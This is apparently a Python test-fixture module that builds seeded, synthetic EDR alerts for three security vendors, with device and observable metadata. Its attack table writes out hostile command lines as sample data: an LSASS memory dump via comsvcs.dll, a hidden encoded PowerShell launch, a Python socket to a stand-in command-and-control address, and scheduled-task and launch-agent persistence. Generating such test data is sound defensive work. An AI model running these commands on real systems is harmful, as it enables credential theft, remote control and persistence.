"""Seeded alerts as the three products write them: every value of every enum, nulls and Unicode among them."""

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any, TypeVar

T = TypeVar("T")
Alert = dict[str, Any]

STILL = datetime(2025, 3, 31, tzinfo=UTC)
"""The time at which the clock of tests is stopped."""
SPAN = timedelta(days=30)
"""The alerts that a server starts with are spread over so long a time before now."""

VENDORS = ("crowdstrike", "ms_defender_endpoint", "sentinelone")
SEVERITIES = ("none", "low", "medium", "high", "critical", "info")
STATUSES = ("unknown", "new", "in_progress", "unresolved", "resolved")
_PLATFORMS = ("windows", "mac", "linux", "unknown")
_DEVICE_STATUSES = ("active", "offline", "quarantined")
_VENDOR_SEVERITIES = {
    "crowdstrike": ("Informational", "Low", "Medium", "High", "Critical", "Informational"),
    "ms_defender_endpoint": ("informational", "low", "medium", "high", "high", "informational"),
    "sentinelone": ("N/A", "SUSPICIOUS", "SUSPICIOUS", "MALICIOUS", "MALICIOUS", "N/A"),
}
_VENDOR_STATUSES = {
    "crowdstrike": ("ignored", "new", "in_progress", "reopened", "closed"),
    "ms_defender_endpoint": ("UnSpecified", "New", "InProgress", "New", "Resolved"),
    "sentinelone": ("undefined", "not_mitigated", "pending", "not_mitigated", "mitigated"),
}
_PRODUCTS = {
    "crowdstrike": ("CrowdStrike Falcon", "7.{0}.{1}.0"),
    "ms_defender_endpoint": ("Microsoft Defender for Endpoint", "10.8760.{1}.1006"),
    "sentinelone": ("SentinelOne Singularity", "23.{0}.2.{1}"),
}
_ATTACKS = (
    # title, description, file, arguments, tactic and its id, technique and its id
    (
        "Credential dumping from LSASS memory",
        "A process opened a handle to the memory of lsass.exe, as tools do that steal credentials. Check its parent.",
        "rundll32.exe",
        "C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\{hex}.dmp full",
        "Credential Access",
        "TA0006",
        "OS Credential Dumping: LSASS Memory",
        "T1003.001",
    ),
    (
        "Suspicious PowerShell command line",
        "An interpreter was started with an argument that hides what it does.\nThe decoded text gets a second stage.",
        "powershell.exe",
        "-NoP -NonI -W Hidden -Enc {hex}",
        "Execution",
        "TA0002",
        "Command and Scripting Interpreter: PowerShell",
        "T1059.001",
    ),
    (
        "Ransomware behavior: mass file renaming",
        'Many files were renamed in a short time; the new names end in ".locked". Isolate the device.',
        "rechnung 2025.exe",
        "--path \\\\files.corp.example\\Büro --quiet",
        "Impact",
        "TA0040",
        "Data Encrypted for Impact",
        "T1486",
    ),
    (
        "Scheduled task created from a temporary folder",
        "Une tâche planifiée lance un exécutable depuis un dossier temporaire — à vérifier.",
        "schtasks.exe",
        "/create /sc minute /mo 15 /tn Updater /tr C:\\Users\\Public\\Téléchargements\\{hex}.exe",
        "Persistence",
        "TA0003",
        "Scheduled Task/Job: Scheduled Task",
        "T1053.005",
    ),
    (
        "不審なプロセスの起動が検出されました",
        "通信先は既知の指令サーバーと一致します。端末を隔離してください。",
        "python3",
        "-c import socket,subprocess;s=socket.create_connection(('198.51.100.7',443))",
        "Command and Control",
        "TA0011",
        "Application Layer Protocol: Web Protocols",
        "T1071.001",
    ),
    (
        "Launch agent added by an unsigned process ⚠️",
        "A property list was written to a folder whose programs start when a user logs in.",
        "osascript",
        "-e 'do shell script \"launchctl load /Users/Shared/{hex}.plist\"'",
        "Persistence",
        "TA0003",
        "Create or Modify System Process: Launch Agent",
        "T1543.001",
    ),
    (
        "Обнаружена подозрительная сетевая активность",
        "Requests at even intervals to an address that no other device asks for: <beacon> & payload.",
        "svchost.exe",
        "-k netsvcs -p -s {hex}",
        "Exfiltration",
        "TA0010",
        "Exfiltration Over C2 Channel",
        "T1041",
    ),
    (
        "Brute force against a remote service",
        "Eine Anmeldung gelang nach vielen Fehlversuchen von derselben Adresse.",
        "sshd",
        "-D -R",
        "Credential Access",
        "TA0006",
        "Brute Force: Password Guessing",
        "T1110.001",
    ),
)
_USERS = ("a.keller", "SYSTEM", "müller", "j.o'brien", "svc-backup", "李雷", "n.ångström", "p.ivanova")
_SYSTEMS = {
    "windows": ("Windows 11 Enterprise 23H2", "10", "0"),
    "mac": ("macOS 14.4.1", "14", "4"),
    "linux": ("Linux 6.8.0-31-generic", "6", "8"),
    "unknown": ("", None, None),
}
_SOFTWARE = ("Google Chrome 131.0", "7-Zip 24.08", "OpenSSL 3.0.13", "Zoom 6.2", "Microsoft 365 Apps – de-de")
_SITES = ("Zürich", "Kraków", "São Paulo", "Austin", "東京")
_REGIONS = ("us-east-1", "eu-central-1", "ap-southeast-2")

_OBSERVED = {
    "UNKNOWN": "évidence №1",
    "HOSTNAME": "ws-{hex}.corp.example",
    "IP_ADDRESS": "198.51.100.{octet}",
    "MAC_ADDRESS": "02:00:5e:00:53:{octet:02x}",
    "USER_NAME": "{alert[user_name]}",
    "EMAIL_ADDRESS": "user-{octet}@corp.example",
    "URL_STRING": "http://198.51.100.{octet}/{hex}.ps1?a=1&b=<2>",
    "FILE_NAME": "{alert[process_filename]}",
    "HASH": "{alert[process_sha256]}",
    "PROCESS_NAME": "{alert[process_filename]}",
    "RESOURCE_UID": "arn:aws:ec2:eu-central-1:000000000000:instance/i-{hex}",
    "PORT": "443",
    "SUBNET": "10.{octet}.0.0/16",
    "COMMAND_LINE": '"{alert[process_filepath]}" --quiet',
    "COUNTRY": "CH",
    "PROCESS_ID": "{octet}",
    "HTTP_USER_AGENT": "Mozilla/5.0 (Windows NT 10.0; WindowsPowerShell/5.1)",
    "CWE_UID": "CWE-94",
    "CVE_UID": "CVE-2099-{octet:04}",
    "USER_CREDENTIAL_ID": "credential-{hex}",
}
"""Types of observables in the order of OCSF 1.3.0, from 0, with what they hold."""
_OBJECTS = (
    "ENDPOINT",
    "USER",
    "EMAIL",
    "URL",
    "FILE",
    "PROCESS",
    "GEO_LOCATION",
    "CONTAINER",
    "REGISTRY_KEY",
    "REGISTRY_VALUE",
    "FINGERPRINT",
)
"""Types from 20 on: they name an object, and have no value."""
OBSERVABLE_TYPES = (*enumerate((*_OBSERVED, *_OBJECTS)), (99, "OTHER"))
"""Pairs of `type_id` and `type`."""


def make_alerts(count: int, seed: int) -> list[Alert]:
    """`count` alerts with every documented key, `observables` too, oldest first; equal for equal arguments."""
    step = SPAN / max(count, 1)
    return [make_alert(number, seed, STILL - SPAN + step * number, step) for number in range(count)]


def make_alert(number: int, seed: int, moment: datetime, step: timedelta) -> Alert:
    """The alert with this number, equal for equal arguments; nothing happened to it after `moment` + `step`/2."""
    draw = Random(f"{seed}/{number}")
    vendor = VENDORS[number % 3]
    status = number % len(STATUSES)
    ended = moment + step * draw.random() / 2
    is_resolved = STATUSES[status] == "resolved" or _below(draw, 6) == 0
    last = ended - timedelta(minutes=_below(draw, 600), milliseconds=_below(draw, 60_000)) if is_resolved else ended
    first = last - timedelta(seconds=_below(draw, 7200))
    severity = (number + number // len(SEVERITIES)) % len(SEVERITIES)
    on_windows = _PLATFORMS[number % len(_PLATFORMS)] in ("windows", "unknown")
    possible = [attack for attack in _ATTACKS if attack[2].endswith(".exe") == on_windows]
    title, description, file, arguments, *attack = draw.choice(possible)
    folder = "C:\\Users\\Public\\Téléchargements\\" if file.endswith(".exe") else "/usr/local/bin/"
    alert = {
        "id": _uuid(draw, upper=vendor == "ms_defender_endpoint"),
        "vendor_id": _vendor_id(draw, vendor),
        "title": title,
        "description": _seldom(draw, description),
        "assigned_user": _seldom(draw, f"{draw.choice(_USERS)}@corp.example", 2),
        "severity": SEVERITIES[severity],
        "vendor_severity": _VENDOR_SEVERITIES[vendor][severity],
        "status": STATUSES[status],
        "vendor_status": _seldom(draw, _VENDOR_STATUSES[vendor][status]),
        "first_event_time": _seldom(draw, _time(first, vendor, draw), 20),
        "last_event_time": _time(last, vendor, draw),
        "resolved_time": _time(ended, vendor, draw) if is_resolved else None,
        "vendor": vendor,
        "pid": _seldom(draw, _process_id(draw, vendor)),
        "process_created_at": _seldom(draw, _time(first - timedelta(seconds=_below(draw, 90)), vendor, draw)),
        "process_filename": file,
        "process_command_line": _seldom(draw, f'"{folder}{file}" {arguments.format(hex=_hex(draw, 40))}'),
        "process_filepath": f"{folder}{file}",
        "process_sha1": _hex(draw, 40),
        "process_sha256": _hex(draw, 64),
        "process_md5": _seldom(draw, _hex(draw, 32)),
        "parent_pid": _seldom(draw, _process_id(draw, vendor)),
        "user_name": draw.choice(_USERS),
        "windows_sid": _seldom(draw, _sid(draw), 3),
        "active_directory_user_id": _seldom(draw, _uuid(draw), 4),
        "active_directory_domain": _seldom(draw, "corp.example", 4),
        "device": _seldom(draw, _device(number, draw, vendor, last), 15),
        "mitre": _seldom(draw, _mitre(draw, attack)),
    }
    return alert | {"observables": _observables(number, draw, alert)}


def _vendor_id(draw: Random, vendor: str) -> str:
    if vendor == "crowdstrike":
        return f"ldt:{_hex(draw, 32)}:{_below(draw, 10**12):012}"
    if vendor == "sentinelone":
        return str(10**18 + _below(draw, 10**18))
    return f"da{_below(draw, 10**18):018}_{draw.choice(('-', ''))}{_below(draw, 10**10)}"


def _time(moment: datetime, vendor: str, draw: Random) -> str:
    """In whole seconds (CrowdStrike), with seven digits (Defender) or with six (SentinelOne)."""
    if vendor == "crowdstrike":
        return f"{moment:%Y-%m-%dT%H:%M:%SZ}"
    digit = _below(draw, 10) if vendor == "ms_defender_endpoint" else ""
    return f"{moment:%Y-%m-%dT%H:%M:%S.%f}{digit}Z"


def _process_id(draw: Random, vendor: str) -> str:
    """CrowdStrike has ids of its own for processes, the others those of the system."""
    return str(10**11 + _below(draw, 9 * 10**11) if vendor == "crowdstrike" else 4 + _below(draw, 65_000))


def _mitre(draw: Random, attack: Sequence[str]) -> list[Alert]:
    tactic, tactic_id, technique, technique_id = attack
    link = f"https://attack.mitre.org/techniques/{technique_id.replace('.', '/')}/"
    named = {"technique_name": technique, "technique_id": technique_id, "technique_link": link}
    found = {"tactic_name": tactic, "tactic_id": tactic_id, "tactic_source": "MITRE ATT&CK", "techniques": [named]}
    return [found] if _below(draw, 8) else []


def _observables(number: int, draw: Random, alert: Alert) -> list[Alert] | None:
    """One of the types in turn, so that 32 alerts show all, and a few more by chance; one alert in eleven has none."""
    if number % 11 == 2 and number >= len(OBSERVABLE_TYPES):
        return None if number % 2 else []
    pairs = [OBSERVABLE_TYPES[number % len(OBSERVABLE_TYPES)], *_some(draw, OBSERVABLE_TYPES, 4)]
    return [
        {
            "name": f"evidence.{name.lower()}",
            "type_id": type_id,
            "type": name,
            "value": None if name in _OBJECTS else _observed(name, draw, alert),
        }
        for type_id, name in pairs
    ]


def _observed(name: str, draw: Random, alert: Alert) -> str:
    form = _OBSERVED.get(name, _OBSERVED["UNKNOWN"])
    return form.format(hex=_hex(draw, 12), octet=1 + _below(draw, 254), alert=alert)


def _device(number: int, draw: Random, vendor: str, seen: datetime) -> Alert:
    """A device with every documented key; its status and platform go through all values as `number` counts up."""
    platform = _PLATFORMS[number % len(_PLATFORMS)]
    system, major, minor = _SYSTEMS[platform]
    host = f"{platform[:3]}-{_hex(draw, 6)}"
    region = draw.choice(_REGIONS)
    tags = [("owner", "Größe & Co <it@corp.example>"), ("env", "prod"), ("cost-center", str(_below(draw, 10**4)))]
    return {
        "id": _uuid(draw, upper=vendor == "sentinelone"),
        "status": _seldom(draw, _DEVICE_STATUSES[number // 2 % len(_DEVICE_STATUSES)]),
        "platform": platform,
        "hostnames": [host] if _below(draw, 5) else [host, f"{host}-älter"],
        "os_version": _seldom(draw, system),
        "os_major_version": major,
        "os_minor_version": minor,
        "fqdns": [f"{host}.corp.example"],
        "ipv4s": [f"10.{_below(draw, 256)}.0.{1 + _below(draw, 254)}" for _ in range(_below(draw, 3))],
        "ipv6s": _seldom(draw, [f"fe80::{_hex(draw, 4)}:{_hex(draw, 4)}"]),
        "mac_addresses": [_mac(draw)],
        "last_seen": _time(seen, vendor, draw),
        "first_seen": _seldom(draw, _time(seen - timedelta(days=1 + _below(draw, 400)), vendor, draw)),
        "source_vendors": [_source_vendor(draw, vendor)],
        "installed_software": _seldom(draw, _some(draw, _SOFTWARE, 4)),
        "ad_info": _seldom(
            draw,
            {
                "org_unit": "OU=Clients,OU=Zürich,DC=corp,DC=example",
                "site_name": draw.choice(_SITES),
                "domain": "corp.example",
                "device_id": _seldom(draw, _uuid(draw)),
            },
            3,
        ),
        "cloud_metadata": _seldom(
            draw,
            {
                "cloud_provider": "aws",
                "account_id": f"{_below(draw, 10**12):012}",
                "region": region,
                "availability_zone": f"{region}a",
                "instance_id": f"i-{_hex(draw, 17)}",
                "instance_type": "m7i.large",
                "image_id": _seldom(draw, f"ami-{_hex(draw, 17)}"),
                "kernel_id": _seldom(draw, f"aki-{_hex(draw, 8)}", 2),
                "vpc_id": f"vpc-{_hex(draw, 17)}",
                "subnet_id": f"subnet-{_hex(draw, 17)}",
            },
            3,
        ),
        "tags": _seldom(draw, [{"key": key, "value": value, "source": "aws"} for key, value in _some(draw, tags, 3)]),
        "identities": [{"username": draw.choice(_USERS), "user_sid": _seldom(draw, _sid(draw), 3)}],
        "vendor_data": _seldom(
            draw,
            {
                "cid": _hex(draw, 32),
                "group_hash": None,
                "score": _below(draw, 100),
                "flags": ["rfm", "ü"],
            },
            4,
        ),
    }


def _source_vendor(draw: Random, vendor: str) -> Alert:
    product, version = _PRODUCTS[vendor]
    policies = [{"name": "Default – prevent", "id": _below(draw, 10**6), "applied": True}, {}]
    agent = {
        "agent_version": version.format(_below(draw, 30), _below(draw, 20_000)),
        "signature_version": _seldom(draw, f"1.{_below(draw, 500)}.{_below(draw, 2000)}.0", 3),
        "policies": policies[: _below(draw, 3)],
    }
    return {"vendor": product, "vendor_id": _hex(draw, 32), "agent_info": _seldom(draw, agent)}


def _uuid(draw: Random, *, upper: bool = False) -> str:
    digits = _hex(draw, 32)
    text = f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-a{digits[17:20]}-{digits[20:]}"
    return text.upper() if upper else text


def _below(draw: Random, end: int) -> int:
    """A whole number from 0 to before `end`; a good deal faster than `randrange`."""
    return int(draw.random() * end)


def _hex(draw: Random, digits: int) -> str:
    return f"{draw.getrandbits(digits * 4):0{digits}x}"


def _seldom(draw: Random, value: T, one_in: int = 9) -> T | None:
    """The value; now and then null, as optional fields are."""
    return None if draw.random() * one_in < 1 else value


def _some(draw: Random, values: Sequence[T], most: int) -> list[T]:
    """Up to `most` of the values, none twice."""
    return draw.sample(values, draw.randint(0, min(most, len(values))))


def _mac(draw: Random) -> str:
    digits = _hex(draw, 12)
    return ":".join(digits[i : i + 2] for i in range(0, 12, 2))


def _sid(draw: Random) -> str:
    return f"S-1-5-21-{_below(draw, 10**9)}-{_below(draw, 10**9)}-{_below(draw, 10**9)}-{500 + _below(draw, 9499)}"
